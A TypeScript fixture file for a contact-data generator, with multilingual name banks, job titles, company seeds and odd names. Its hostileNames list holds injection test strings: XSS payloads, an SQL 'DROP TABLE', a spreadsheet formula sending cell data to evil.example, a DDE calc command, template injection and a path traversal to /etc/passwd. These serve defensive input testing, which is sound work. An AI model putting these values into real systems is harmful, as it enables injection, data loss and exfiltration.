import type { Lang } from "./scenario";

/** Given and family names as people write them, with a Latin form for addresses where the script is another one. */
export type NameBank = {
  readonly country: string;
  readonly cities: readonly string[];
  readonly prefix: string;
  readonly given: readonly string[];
  readonly family: readonly string[];
  readonly latinGiven?: readonly string[];
  readonly latinFamily?: readonly string[];
  /** Family name first, and what stands between. */
  readonly familyFirst?: boolean;
  readonly joint?: string;
};

const words = (text: string): string[] => text.split(" ");

export const nameBanks: Record<Lang, readonly NameBank[]> = {
  en: [
    {
      country: "United Kingdom",
      cities: ["Leeds", "London", "Bristol", "Glasgow"],
      prefix: "+44",
      given: words(
        "Erin Hamish Ruth Oliver Poppy Callum Fiona Graham Imogen Rhys Niamh Alistair Beth Declan Siobhán Harriet",
      ),
      family: words(
        "Walsh Fraser Whitaker Pemberton O'Brien MacLeod Hughes Ashdown Barlow Cartwright Nolan D'Arcy Sutcliffe Fairbairn",
      ),
    },
    {
      country: "United States",
      cities: ["Austin", "Portland", "Chicago", "Boston"],
      prefix: "+1",
      given: words(
        "Tanya Marcus Deshawn Caitlin Brandon Alejandra Wyatt Keisha Ethan Savannah Tyrone Megan Cody Latoya Brooke Hunter",
      ),
      family: words(
        "Jackson Kowalczyk Washington Nguyen Delgado Schroeder Kim Freeman McAllister Ortiz Goldberg Reyes Thibodeaux Park",
      ),
    },
    {
      country: "Nigeria",
      cities: ["Lagos", "Abuja", "Ibadan"],
      prefix: "+234",
      given: words("Ngozi Chinedu Amara Tunde Ifeoma Yusuf Folake Emeka Zainab Babatunde"),
      family: words("Adeyemi Okafor Bello Eze Balogun Nwachukwu Ogunleye Abubakar Ọlájídé"),
    },
    {
      country: "India",
      cities: ["Pune", "Bengaluru", "Chennai"],
      prefix: "+91",
      given: words("Deepa Rohan Ananya Vikram Meera Karthik Sneha Arjun Lakshmi Nikhil"),
      family: words("Chandran Iyer Kulkarni Deshpande Menon Srinivasan Banerjee Mehta Rao"),
    },
    {
      country: "Sweden",
      cities: ["Malmö", "Uppsala", "Göteborg"],
      prefix: "+46",
      given: words("Anders Linnéa Björn Åsa Søren Sigríður Märta Øystein"),
      family: words("Lindqvist Sjöberg Ångström Þórsdóttir Kjær Håkansson Nygård"),
    },
    {
      country: "Netherlands",
      cities: ["Utrecht", "Rotterdam"],
      prefix: "+31",
      given: words("Sanne Joost Femke Daan Anouk Thijs"),
      family: ["van der Berg", "de Vries", "Bakker", "ten Hove", "Jansen", "IJsselstein"],
    },
  ],
  de: [
    {
      country: "Germany",
      cities: ["Hamburg", "Leipzig", "Köln"],
      prefix: "+49",
      given: words("Jonas Lena Jürgen Katharina Björn Sabine Moritz Änne Uwe Franziska"),
      family: words("Pfeiffer Vogt Müller Groß Schäfer Köhler Weiß Baumgärtner Öztürk Lüdecke"),
    },
  ],
  fr: [
    {
      country: "France",
      cities: ["Lyon", "Nantes", "Lille"],
      prefix: "+33",
      given: words("Chloé Étienne Margaux Jérôme Inès François Anaïs Thibault Maëlle Loïc"),
      family: ["Lefèvre", "Moreau", "Château", "d'Aubigny", "Garçon", "Lemaître", "Benoît", "Le Goff"],
    },
  ],
  es: [
    {
      country: "Spain",
      cities: ["Valencia", "Bogotá", "Sevilla"],
      prefix: "+34",
      given: words("Tomás Lucía Íñigo Marisol Álvaro Begoña Joaquín Ximena Óscar Nuria"),
      family: ["Ortega", "Muñoz", "Ibáñez", "García Peña", "Núñez", "Zárate", "Echeverría"],
    },
  ],
  pt: [
    {
      country: "Portugal",
      cities: ["Lisbon", "Porto", "São Paulo"],
      prefix: "+351",
      given: words("Paulo Inês João Catarina Gonçalo Conceição Tiago Mafalda"),
      family: ["Mendes", "Conceição", "Magalhães", "Araújo", "dos Santos", "Guimarães"],
    },
  ],
  pl: [
    {
      country: "Poland",
      cities: ["Gdańsk", "Łódź", "Kraków"],
      prefix: "+48",
      given: words("Małgorzata Łukasz Zofia Paweł Agnieszka Stanisław Żaneta"),
      family: words("Wójcik Dąbrowska Szczęsny Żuraw Kołodziej Brzęczyszczykiewicz"),
    },
  ],
  tr: [
    {
      country: "Türkiye",
      cities: ["İzmir", "İstanbul"],
      prefix: "+90",
      given: words("Ayşe İbrahim Gülşen Çağlar Şebnem Özgür Işıl"),
      family: words("Yıldırım Çelik Öztürk Şahin Kılıç Güneş"),
    },
  ],
  el: [
    {
      country: "Greece",
      cities: ["Athens", "Patras"],
      prefix: "+30",
      given: words("Γιώργος Ελένη Νίκος Αγγελική Σταύρος"),
      family: words("Παπαδόπουλος Οικονόμου Βασιλείου Καραγιάννη Δημητρίου"),
      latinGiven: words("giorgos eleni nikos angeliki stavros"),
      latinFamily: words("papadopoulos oikonomou vasileiou karagianni dimitriou"),
    },
  ],
  ru: [
    {
      country: "Kazakhstan",
      cities: ["Almaty", "Astana"],
      prefix: "+7",
      given: words("Наталья Дмитрий Екатерина Артём Алёна"),
      family: words("Шевцова Кузнецов Соловьёва Ким Щербакова"),
      latinGiven: words("natalya dmitry ekaterina artyom alyona"),
      latinFamily: words("shevtsova kuznetsov solovyova kim shcherbakova"),
    },
  ],
  uk: [
    {
      country: "Ukraine",
      cities: ["Lviv", "Kyiv"],
      prefix: "+380",
      given: words("Олена Андрій Їлена Тарас Юлія"),
      family: ["Ковальчук", "Гнатюк", "Шевченко", "Ґалаґан", "В'юн"],
      latinGiven: words("olena andrii yilena taras yuliia"),
      latinFamily: words("kovalchuk hnatiuk shevchenko galagan viun"),
    },
  ],
  ar: [
    {
      country: "United Arab Emirates",
      cities: ["Dubai", "Amman", "Cairo"],
      prefix: "+971",
      given: words("سارة خالد ليلى محمد نور يوسف"),
      family: ["حداد", "الخطيب", "المصري", "بن سعيد", "العبدالله", "منصور"],
      latinGiven: words("sara khaled layla mohammed nour yousef"),
      latinFamily: words("haddad alkhatib almasri binsaid alabdullah mansour"),
    },
  ],
  he: [
    {
      country: "Israel",
      cities: ["Haifa", "Tel Aviv"],
      prefix: "+972",
      given: words("נועה איתן תמר יואב שירה"),
      family: ["לוי", "כהן", "בן־דוד", "פרץ", "אברהמי"],
      latinGiven: words("noa eitan tamar yoav shira"),
      latinFamily: words("levi cohen bendavid peretz avrahami"),
    },
  ],
  fa: [
    {
      country: "Iran",
      cities: ["Tehran", "Shiraz"],
      prefix: "+98",
      given: words("مریم رضا شیرین کاوه پریسا"),
      family: ["حسینی", "کریمی", "رضایی‌نژاد", "شیرازی", "جعفری"],
      latinGiven: words("maryam reza shirin kaveh parisa"),
      latinFamily: words("hosseini karimi rezaeinejad shirazi jafari"),
    },
  ],
  hi: [
    {
      country: "India",
      cities: ["Jaipur", "Lucknow"],
      prefix: "+91",
      given: words("प्रिया राहुल अंजलि विवेक"),
      family: words("शर्मा वर्मा त्रिपाठी श्रीवास्तव"),
      latinGiven: words("priya rahul anjali vivek"),
      latinFamily: words("sharma verma tripathi shrivastava"),
    },
  ],
  bn: [
    {
      country: "Bangladesh",
      cities: ["Dhaka", "Chattogram"],
      prefix: "+880",
      given: words("রহিমা তানভীর শর্মিলা আরিফ"),
      family: words("চৌধুরী হোসেন মুখার্জী আহমেদ"),
      latinGiven: words("rahima tanvir sharmila arif"),
      latinFamily: words("chowdhury hossain mukherjee ahmed"),
    },
  ],
  th: [
    {
      country: "Thailand",
      cities: ["Bangkok", "Chiang Mai"],
      prefix: "+66",
      given: words("สมชาย กัญญา ปิยะ อรุณี"),
      family: words("วงศ์สุวรรณ ศรีสุข ทองดี เจริญพร"),
      latinGiven: words("somchai kanya piya arunee"),
      latinFamily: words("wongsuwan srisuk thongdee charoenporn"),
    },
  ],
  "zh-Hans": [
    {
      country: "China",
      cities: ["Shenzhen", "Shanghai"],
      prefix: "+86",
      given: words("伟 芳 秀英 建国 梓涵 宇航"),
      family: words("王 李 张 欧阳 刘 陈"),
      latinGiven: words("wei fang xiuying jianguo zihan yuhang"),
      latinFamily: words("wang li zhang ouyang liu chen"),
      familyFirst: true,
      joint: "",
    },
  ],
  "zh-Hant": [
    {
      country: "Taiwan",
      cities: ["Taipei", "Kaohsiung", "Hong Kong"],
      prefix: "+886",
      given: words("雅婷 志豪 怡君 俊傑"),
      family: words("林 陳 黃 張簡"),
      latinGiven: words("yating zhihao yijun junjie"),
      latinFamily: words("lin chen huang changchien"),
      familyFirst: true,
      joint: "",
    },
  ],
  ja: [
    {
      country: "Japan",
      cities: ["Osaka", "Tokyo", "Fukuoka"],
      prefix: "+81",
      given: words("芽衣 健太 さくら 翔 美咲 雄一郎"),
      family: words("小林 佐藤 髙橋 渡邉 鈴木 斎藤"),
      latinGiven: words("mei kenta sakura sho misaki yuichiro"),
      latinFamily: words("kobayashi sato takahashi watanabe suzuki saito"),
      familyFirst: true,
      joint: " ",
    },
  ],
  ko: [
    {
      country: "South Korea",
      cities: ["Seoul", "Busan"],
      prefix: "+82",
      given: words("지우 민준 서연 하은 도윤"),
      family: words("김 이 박 최 남궁"),
      latinGiven: words("jiwoo minjun seoyeon haeun doyun"),
      latinFamily: words("kim lee park choi namgung"),
      familyFirst: true,
      joint: "",
    },
  ],
  vi: [
    {
      country: "Vietnam",
      cities: ["Hanoi", "Ho Chi Minh City"],
      prefix: "+84",
      given: ["Minh Anh", "Thị Hương", "Quốc Bảo", "Thuỳ Linh"],
      family: ["Nguyễn", "Trần", "Phạm", "Đặng", "Lê"],
      familyFirst: true,
      joint: " ",
    },
  ],
};

export const jobTitles: readonly string[] = [
  "Head of Operations",
  "Warehouse manager",
  "Accountant",
  "Developer",
  "IT administrator",
  "Founder",
  "Customer care",
  "Buyer",
  "Data analyst",
  "Office manager",
  "CTO",
  "Logistics planner",
  "Finance lead",
  "Store manager",
  "DevOps engineer",
  "Compliance officer",
];

/** Names that break things that trust names. */
export const hostileNames: readonly string[] = [
  "<img src=x onerror=alert(1)>",
  '"><script>alert(document.domain)</script>',
  "Robert'); DROP TABLE contacts;--",
  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  "A".repeat(200),
  "\u200b\u200b\u200b",
  "\u202egnp.exe\u202c Moneypenny",
  "{{constructor.constructor('alert(1)')()}}",
  "\u0024{7*7}<%= 7*7 %>",
  "__proto__",
  "null",
  "javascript:alert(1)//",
  "Z̸̢͝a̷͙̾l̶̰̈́g̵̱̈o̷̗͘ ̵̭̀T̸̰̿e̵͉̕x̷̪̅t̴̺̆",
  "+1234\t@SUM(1+1)*cmd|' /C calc'!A0",
  "</title><svg onload=alert(1)>",
  "' OR '1'='1",
  "../../../etc/passwd",
  "Very Long Family Name ".repeat(9).trim(),
  "\ufeff\u2066Inverted\u2069 Person",
  '<a href="javascript:alert(1)">me</a>',
];

/** Odd, and perfectly harmless. */
export const oddNames: readonly string[] = [
  "👩‍💻 Devon",
  "Zoë Ünlü 🏳️‍🌈",
  "José (he/him)",
  "𝓜𝓪𝓻𝓲𝓷𝓪",
  "M",
  "van den Heuvel – de Groot, Anna-Sophie",
  "O’Neill‑Ó Súilleabháin",
  "🇺🇦 Danylo",
  "ANNA SMITH",
  "jens",
  "Dr. Dr. h.c. Karl-Theodor Freiherr von und zu Wiesenthal",
  "李 Lee 이",
  "N͟e͟e͟l",
  "👨‍👩‍👧‍👦 The Hendersons",
];

export const companySeeds: readonly (readonly [name: string, domain: string, industry: string])[] = [
  ["Nordkai", "nordkai", "Logistics"],
  ["Brightwater Foods", "brightwater", "Food"],
  ["Kestrel & Sons", "kestrel-sons", "Furniture"],
  ["Tallinn Tea Co.", "tallinntea", "Food"],
  ["Obi Fabrics", "obifabrics", "Textiles"],
  ["Calle Ocho Bikes", "calleocho", "Sports"],
  ["Müller Werkzeuge", "mueller-werkzeuge", "Tools"],
  ["Fromagerie du Lac", "fromageriedulac", "Food"],
  ["Sakura Stationery", "sakura-stationery", "Retail"],
  ["Blue Anchor Pharma", "blueanchor", "Health"],
  ["Pixel & Pine", "pixelpine", "Design"],
  ["Lagos Solar", "lagossolar", "Energy"],
  ["Ferreira Cortiça", "ferreira-cortica", "Manufacturing"],
  ["Hamish Outdoor", "hamishoutdoor", "Sports"],
  ["Żabka Parts", "zabkaparts", "Automotive"],
  ["Copper Kettle Roasters", "copperkettle", "Coffee"],
  ["Gulf Spare Parts", "gulfspares", "Automotive"],
  ["Haifa Optics", "haifaoptics", "Optics"],
  ["Maple Leaf Toys", "mapletoys", "Toys"],
  ["Orchid Cosmetics", "orchidcos", "Beauty"],
  ["Tres Hermanos", "treshermanos", "Retail"],
  ["Van Dijk Bloemen", "vandijk", "Flowers"],
  ["Kyoto Knives", "kyotoknives", "Kitchen"],
  ["Northern Lights Gear", "nlgear", "Sports"],
  ["Pune Precision", "puneprecision", "Manufacturing"],
  ["Saffron & Salt", "saffronsalt", "Food"],
  ["Bosphorus Textil", "bosphorus", "Textiles"],
  ["Athens Marine", "athensmarine", "Boats"],
  ["Ironbridge Tools", "ironbridge", "Tools"],
  ["Little Owl Books", "littleowl", "Books"],
  ["Quantum Pets", "quantumpets", "Pets"],
  ["Seoul Seed Bank", "seoulseed", "Agriculture"],
  ["Mekong Ceramics", "mekongceramics", "Home"],
  ["Redwood Medical", "redwoodmed", "Health"],
  ["Casa Verde", "casaverde", "Garden"],
  ["Lviv Linen", "lvivlinen", "Textiles"],
  ["Ocean Grove", "oceangrove", "Food"],
  ["Basel Instruments", "baselinst", "Instruments"],
  ["The Button Factory", "buttonfactory", "Textiles"],
  ["Évasion Vélo", "evasionvelo", "Sports"],
  ['O\'Hare <Import> & "Export"', "ohare-import", "Wholesale"],
  ["شركة النور", "alnoor", "Wholesale"],
];
